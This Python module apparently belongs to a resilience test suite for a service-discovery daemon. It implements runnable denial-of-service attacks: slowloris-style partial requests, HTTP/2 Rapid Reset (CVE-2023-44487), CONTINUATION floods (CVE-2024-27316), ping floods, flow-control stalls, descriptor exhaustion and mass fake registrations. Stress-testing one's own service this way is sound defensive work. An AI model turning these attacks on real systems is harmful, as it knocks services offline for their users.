"""What hostile peers do. Each attack is a function of the daemon's addresses and a scale; it calls `ready` once it is under
way, and goes on until its process is ended."""

import os
import resource
import select
import socket
import struct
import sys
import threading
import time

import wire
from wire import h2


def descriptors(wanted):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, wanted))
    else:
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, wanted), hard))


def forever():
    while True:
        time.sleep(1)


def half_bodies(addresses, scale, ready):
    """256 requests of the scheduler whose bodies never come in whole, opened anew when they are closed."""
    head = (b"POST /scheduler/filter HTTP/1.1\r\nHost: extender\r\nContent-Type: application/json\r\n"
            b"Content-Length: 65536\r\n\r\n{\"Pod\"")
    keep_open(addresses["extender"], int(256 * scale), head, ready)


def half_heads(addresses, scale, ready):
    """256 requests of whose head half is sent, to the probes' listener, too."""
    head = b"GET /readyz HTTP/1.1\r\nHost: ext"
    if "http" in addresses:
        thread = threading.Thread(
            target=keep_open, args=(addresses["http"], int(256 * scale), head, lambda: None), daemon=True)
        thread.start()
    keep_open(addresses.get("extender", addresses.get("http")), int(256 * scale), head, ready)


def keep_open(address, count, head, ready):
    """Holds so many connections, each with the begin of something, and opens those again that are closed."""
    descriptors(count + 100)
    open_ones, poller, told = {}, select.poll(), False
    while True:
        failed = False
        while len(open_ones) < count and not failed:
            try:
                peer = wire.connect(address, 1)
                peer.sendall(head)
                peer.setblocking(False)
                open_ones[peer.fileno()] = peer
                poller.register(peer, select.POLLIN | select.POLLHUP | select.POLLERR)
            except OSError:
                failed = True
        if not told:
            ready()
            told = True
        for descriptor, _ in poller.poll(100):
            peer = open_ones[descriptor]
            try:
                if peer.recv(4096):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            poller.unregister(descriptor)
            open_ones.pop(descriptor).close()


def watches(addresses, scale, ready):
    """300 watches of all services, ten times a second and more, on framed connections that read what they get."""
    watch_framed(addresses["framed"], int(300 * scale), ready)


def watch_framed(address, count, ready):
    descriptors(count + 100)
    poller, peers = select.poll(), {}
    each = 30
    for start in range(0, count, each):
        peer = wire.connect(address)
        for number in range(start, min(count, start + each)):
            peer.sendall(wire.frame(wire.watch(number + 1)))
        peer.setblocking(False)
        peers[peer.fileno()] = peer
        poller.register(peer, select.POLLIN)
    ready()
    while peers:
        for descriptor, _ in poller.poll(1000):
            try:
                if peers[descriptor].recv(1 << 20):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            poller.unregister(descriptor)
            peers.pop(descriptor).close()
    forever()


def grpc_watches(addresses, scale, ready):
    """300 watches of all services by gRPC, whose answers are read."""
    count, each = int(300 * scale), 50
    connections = [wire.Connection(addresses["grpc"]) for _ in range(0, count, each)]
    for index in range(count):
        connections[index // each].open(wire.WATCH, wire.number(2, 10), True)

    def read(connection):
        try:
            while True:
                connection.next()
        except OSError:
            pass

    for connection in connections:
        threading.Thread(target=read, args=(connection,), daemon=True).start()
    ready()
    forever()


def picker_streams(addresses, scale, ready):
    """400 streams of the picker, each with a message of 4 MiB of which the last byte never comes."""
    connection = wire.Connection(addresses["picker"], timeout=None)
    peer, count, size = connection.peer, int(400 * scale), 4 << 20
    windows = {0: 65535}
    initial, lock = 65535, threading.Condition()

    def read():
        nonlocal initial
        try:
            while True:
                kind, flags, stream, payload = connection.next()
                with lock:
                    if kind == wire.WINDOW_UPDATE:
                        more = struct.unpack(">I", payload)[0]
                        windows[stream] = windows.get(stream, initial) + more
                    if kind == wire.SETTINGS and not flags & 1:
                        for at in range(0, len(payload), 6):
                            name, value = struct.unpack(">HI", payload[at:at + 6])
                            if name == 4:
                                for known in windows:
                                    if known:
                                        windows[known] += value - initial
                                initial = value
                    if kind == wire.RST_STREAM:
                        windows[stream] = -1 << 40
                    lock.notify_all()
        except OSError:
            os._exit(0)

    threading.Thread(target=read, daemon=True).start()
    time.sleep(0.2)
    left = {}
    for _ in range(count):
        stream = connection.open(wire.PROCESS)
        with lock:
            windows.setdefault(stream, initial)
        left[stream] = size - 1
    heads = {stream: b"\0" + struct.pack(">I", size) for stream in left}
    end = time.monotonic() + 20 * max(1, scale)
    piece = b"\0" * 16384
    while left and time.monotonic() < end:
        sent = False
        for stream in list(left):
            while left[stream] > 0:
                data = heads.pop(stream, b"") or piece[:left[stream]]
                with lock:
                    if windows[stream] < 0:
                        left[stream] = 0
                        break
                    if windows[stream] < len(data) or windows[0] < len(data):
                        break
                    windows[stream] -= len(data)
                    windows[0] -= len(data)
                peer.sendall(h2(wire.DATA, 0, stream, data))
                left[stream] -= len(data)
                sent = True
            if left[stream] <= 0:
                del left[stream]
        if not sent:
            with lock:
                lock.wait(0.5)
    ready()
    forever()


def picker_window(addresses, scale, ready):
    """One stream of the picker that takes no answer (a window of 0) and asks for ever larger ones."""
    connection = wire.Connection(addresses["picker"], window=0, timeout=None)
    peer = connection.peer
    stream = connection.open(wire.PROCESS)
    body = wire.text(4, wire.text(1, b"\0" * 60_000)) + wire.text(11, wire.number(1, 4) + wire.number(2, 4))
    message = wire.frame(body)
    room, lock = {0: 65535, stream: 65535}, threading.Condition()

    def read():
        try:
            while True:
                kind, flags, on, payload = connection.next()
                with lock:
                    if kind == wire.WINDOW_UPDATE:
                        room[on] = room.get(on, 65535) + struct.unpack(">I", payload)[0]
                    if kind == wire.SETTINGS and not flags & 1:
                        for at in range(0, len(payload), 6):
                            name, value = struct.unpack(">HI", payload[at:at + 6])
                            if name == 4:
                                room[stream] += value - 65535
                    if kind == wire.RST_STREAM:
                        room[stream] = -1 << 40
                    lock.notify_all()
        except OSError:
            ready()
            time.sleep(3600)

    threading.Thread(target=read, daemon=True).start()
    total, most, end = 0, int(scale * (1500 << 20)), time.monotonic() + 30 * max(1, scale)
    pending = b""
    while total < most and time.monotonic() < end:
        if not pending:
            pending = message
        data = pending[:16384]
        with lock:
            if room[stream] < len(data) or room[0] < len(data):
                if room[stream] < -1 << 30 or not lock.wait(2):
                    break
                continue
            room[stream] -= len(data)
            room[0] -= len(data)
        try:
            peer.sendall(h2(wire.DATA, 0, stream, data))
        except OSError:
            break
        pending = pending[len(data):]
        total += len(data)
    ready()
    forever()


def flood(address, what, ready):
    """Sends something again and again on a connection whose answers nobody reads; connects again when it is closed."""
    told = False
    while True:
        try:
            connection = wire.Connection(address, timeout=2)
            stream = 1
            while True:
                out = b""
                for _ in range(200):
                    out += what(stream)
                    stream += 2
                connection.peer.sendall(out)
                if not told:
                    ready()
                    told = True
                try:
                    connection.peer.setblocking(False)
                    connection.peer.recv(1 << 16)
                except BlockingIOError:
                    pass
                finally:
                    connection.peer.settimeout(2)
        except OSError:
            if not told:
                ready()
                told = True
            time.sleep(0.01)


RESET = struct.pack(">I", 8)


def picker_resets(addresses, scale, ready):
    """Rapid reset (CVE-2023-44487) of the picker's streams, before anything was asked."""
    head = wire.request(wire.PROCESS)
    flood(addresses["picker"], lambda stream: h2(wire.HEADERS, 4, stream, head) + h2(wire.RST_STREAM, 0, stream, RESET),
          ready)


def grpc_resets(addresses, scale, ready):
    """Rapid reset (CVE-2023-44487) of the gRPC server's streams."""
    head = wire.request(wire.PICK)
    flood(addresses["grpc"], lambda stream: h2(wire.HEADERS, 4, stream, head) + h2(wire.RST_STREAM, 0, stream, RESET),
          ready)


def continuations(address, ready):
    """A head that never ends (CVE-2024-27316)."""
    told, piece = False, wire.literal("x-more", "a" * 4000)
    while True:
        try:
            connection = wire.Connection(address, timeout=2)
            connection.peer.sendall(h2(wire.HEADERS, 0, 1, wire.request(wire.PROCESS)))
            for _ in range(100_000):
                connection.peer.sendall(h2(wire.CONTINUATION, 0, 1, piece))
                if not told:
                    ready()
                    told = True
        except OSError:
            if not told:
                ready()
                told = True
            time.sleep(0.01)


def picker_continuations(addresses, scale, ready):
    """A head of the picker that never ends (CVE-2024-27316)."""
    continuations(addresses["picker"], ready)


def grpc_continuations(addresses, scale, ready):
    """A head of the gRPC server that never ends (CVE-2024-27316)."""
    continuations(addresses["grpc"], ready)


def picker_pings(addresses, scale, ready):
    """Pings and settings whose acknowledgements nobody reads."""
    flood(addresses["picker"], lambda stream: h2(wire.PING, 0, 0, b"\0" * 8) + h2(wire.SETTINGS, 0, 0), ready)


def grpc_pings(addresses, scale, ready):
    """Pings and settings whose acknowledgements nobody reads."""
    flood(addresses["grpc"], lambda stream: h2(wire.PING, 0, 0, b"\0" * 8) + h2(wire.SETTINGS, 0, 0), ready)


def idle(addresses, scale, ready):
    """10,000 framed connections that say nothing, opened again when they are closed."""
    hold_as_other(addresses["framed"], int(10_000 * scale), b"", ready)


def half_frames(addresses, scale, ready):
    """2,000 framed connections with half a frame each."""
    hold_as_other(addresses["framed"], int(2_000 * scale), wire.frame(wire.pick("shop/cart"))[:9], ready)


def hold_as_other(address, count, head, ready):
    """As another user where that may be: a pod is not to be the user of its neighbours."""
    if os.geteuid() == 0:
        descriptors(count + 100)
        os.setgid(65534)
        os.setuid(65534)
    keep_open(address, count, head, ready)


def descriptors_flood(addresses, scale, ready):
    """More idle connections than the daemon has descriptors, on every listener."""
    count = int(400 * scale)
    for name in list(addresses)[1:]:
        threading.Thread(target=keep_open, args=(addresses[name], count, b"", lambda: None), daemon=True).start()
    keep_open(addresses[list(addresses)[0]], count, b"", ready)


def abandoned(addresses, scale, ready):
    """3 million picks that nobody completes, on connections that come and go."""
    left = int(3_000_000 * scale)
    while left > 0:
        peer = wire.connect(addresses["framed"], 60)
        reader = wire.Reader(peer)
        one = wire.frame(wire.pick("shop/cart"))
        batch = min(left, 50_000)
        for start in range(0, batch, 500):
            peer.sendall(one * 500)
            for _ in range(500):
                reader.framed()
        left -= batch
        holding.append(peer)
    ready()
    forever()


holding = []


def renewed(addresses, scale, ready):
    """300,000 picks, of which each tenth, and the last one, are renewed again and again and never completed."""
    each, kept = 75_000, []
    for _ in range(max(1, int(4 * scale))):
        peer = wire.connect(addresses["framed"], 60)
        reader, picks = wire.Reader(peer), []
        count = int(min(1, 4 * scale) * each)
        one = wire.frame(wire.pick("shop/cart"))
        for start in range(0, count, 500):
            peer.sendall(one * 500)
            for _ in range(500):
                answer = dict(wire.fields(reader.framed()))
                if 3 in answer:
                    picks.append(dict(wire.fields(answer[3]))[1])
        staying = picks[::10] + picks[-1:]
        done = set(picks).difference(staying)
        peer.sendall(b"".join(wire.frame(wire.complete(pick)) for pick in done))
        kept.append((peer, [wire.frame(wire.renew(pick)) for pick in staying]))
    ready()
    while True:
        for peer, frames in kept:
            for start in range(0, len(frames), 500):
                peer.sendall(b"".join(frames[start:start + 500]))
                time.sleep(0.01)
        time.sleep(1)


def port_names(addresses, scale, ready):
    """5,000 made-up ports of a service that a policy of overflow is for, one with the number that Envoys ask for."""
    count = int(5_000 * scale)
    peer = wire.connect(addresses["framed"], 300)
    reader = wire.Reader(peer)
    ports = ["80", "x"] + [f"p{number}" for number in range(count)]
    for start in range(0, len(ports), 100):
        some = ports[start:start + 100]
        peer.sendall(b"".join(
            wire.frame(wire.register(f"shop/cart:{port}", "10.9.9.9:80", start + index + 1))
            for index, port in enumerate(some)))
        for _ in some:
            reader.framed()
    holding.append(peer)
    ready()
    forever()


def names(addresses, scale, ready):
    """125,000 services of made-up names."""
    count = int(125_000 * scale)
    peer = wire.connect(addresses["framed"], 300)
    reader = wire.Reader(peer)
    for start in range(0, count, 100):
        peer.sendall(b"".join(
            wire.frame(wire.register(f"made-up/{start + index}", "10.9.9.9:80", start + index + 1)) for index in range(100)))
        for _ in range(100):
            reader.framed()
    holding.append(peer)
    ready()
    forever()


ATTACKS = {function.__name__: function for function in [
    half_bodies, half_heads, watches, grpc_watches, picker_streams, picker_window, picker_resets, grpc_resets,
    picker_continuations, grpc_continuations, picker_pings, grpc_pings, idle, half_frames, descriptors_flood, abandoned, names,
    renewed, port_names]}

if __name__ == "__main__":
    # attacks.py ATTACK SCALE NAME=ADDRESS...
    pairs = dict(argument.split("=", 1) for argument in sys.argv[3:])
    ATTACKS[sys.argv[1]](pairs, float(sys.argv[2]), lambda: print("ready", flush=True))
